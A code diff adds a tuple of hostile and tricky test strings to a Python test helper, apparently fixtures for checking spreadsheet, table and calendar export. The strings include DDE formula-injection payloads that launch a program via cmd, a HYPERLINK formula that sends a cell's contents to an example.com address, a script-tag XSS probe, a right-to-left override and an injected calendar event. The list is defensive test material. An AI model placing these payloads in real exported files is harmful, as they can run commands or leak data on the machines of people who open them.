@@ -105,3 +105,36 @@ def make_record(*, actions: tuple[Action, ...] | None = None, **changes: Any) ->
 def make_labels(*languages: str) -> Labels:
     """The built-in labels, in Chinese where no language is named."""
     return load_labels(LABELS, tuple(Language(tag) for tag in languages or ("zh-CN",)))
+
+
+HOSTILE_TEXTS = (
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "＝1+1",
+    '=HYPERLINK("https://example.com/?x="&A1,"点此")',
+    "\t=1+1",
+    " \u200b=1+1",
+    "第一行\n=1+1",
+    "第一行\r\n第二行\u2028第三行\u0085第四行",
+    "好;=1+1",
+    '"=1+1"',
+    "https://example.com/a_b?x=1&y=2",
+    "mailto:nobody@example.com",
+    "internal:'按部门'!A1",
+    "007",
+    "1E5",
+    "TRUE",
+    "_x0041_",
+    "a|b\\|c\\",
+    "<script>alert(1)</script> &amp; <b>",
+    "**粗** _斜_ `码` [链](https://example.com) ![图](x.png) ~~删~~ $x$",
+    "BEGIN:VEVENT\nSUMMARY:假\nEND:VEVENT",
+    "a\\nb,c;d:e",
+    "مرحبا بالعالم (abc) 123",
+    "\u202eright to left\u202c",
+    "👩‍👩‍👧‍👦 𠮷 ㍿",
+    "长" * 5_000,
+)
+"""What may do harm in a sheet, a table or a calendar, and what is often changed there."""
